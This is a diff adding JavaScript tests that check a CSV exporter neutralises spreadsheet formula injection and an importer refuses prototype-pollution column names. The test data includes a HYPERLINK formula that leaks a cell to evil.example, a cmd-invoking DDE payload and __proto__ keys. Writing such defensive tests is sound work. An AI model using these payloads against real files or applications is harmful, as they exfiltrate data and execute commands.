@@ -48,3 +48,36 @@ test('a bad file has each problem named by its line (the console then imports no
   assert.deepEqual(csvToItems('', schema).problems, ['the file is empty']);
   assert.deepEqual(csvToItems('id,enabled\nx,true\n', schema).problems, ['line 1: no "name" column']);
 });
+
+test('a text cell a spreadsheet would run as a formula goes out as text and comes back unchanged', () => {
+  const attacks = [
+    '=HYPERLINK("http://evil.example/?x="&A3,"Details")',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    '+1+1', '-2+3', '\tTAB', "'already marked",
+  ];
+  const items = attacks.map((name, n) => ({ name, enabled: true, scan_mode: n === 0 ? '=1+1' : 'fast', settings: { node_id: name, signal: { type: 'random', min: -1, max: 2 } } }));
+  const text = itemsToCsv(items);
+  for (const row of parseCsv(text).slice(1)) {
+    for (const cell of row) {
+      assert.ok(!/^[=+@\t\r]/.test(cell), `the cell ${JSON.stringify(cell)} would run as a formula`);
+      assert.ok(!/^-[^0-9]|^-\d+[^0-9.]/.test(cell), `the cell ${JSON.stringify(cell)} would run as a formula`);
+    }
+  }
+  assert.ok(text.includes(`"'=HYPERLINK(""http://evil.example/?x=""&A3,""Details"")"`), text);
+  assert.ok(text.includes(',-1,'), 'a negative number stays a number');
+  const back = csvToItems(text, schema);
+  assert.deepEqual(back.problems, []);
+  assert.deepEqual(back.items, items);
+});
+
+test('a column reaching the prototype is refused and pollutes nothing', () => {
+  for (const column of ['settings.__proto__.polluted', 'settings.constructor.prototype.polluted', 'settings.__proto__.body']) {
+    const { items, problems } = csvToItems(`name,${column}\nx,yes\n`, schema);
+    assert.equal(items.length, 0, column);
+    assert.equal(problems.length, 1, column);
+    assert.match(problems[0], /^line 1, column settings\.[a-z_]+\..*is not a setting name/);
+    assert.equal(({}).polluted, undefined, column);
+    assert.equal(({}).body, undefined, column);
+    assert.equal(Object.prototype.polluted, undefined, column);
+  }
+});
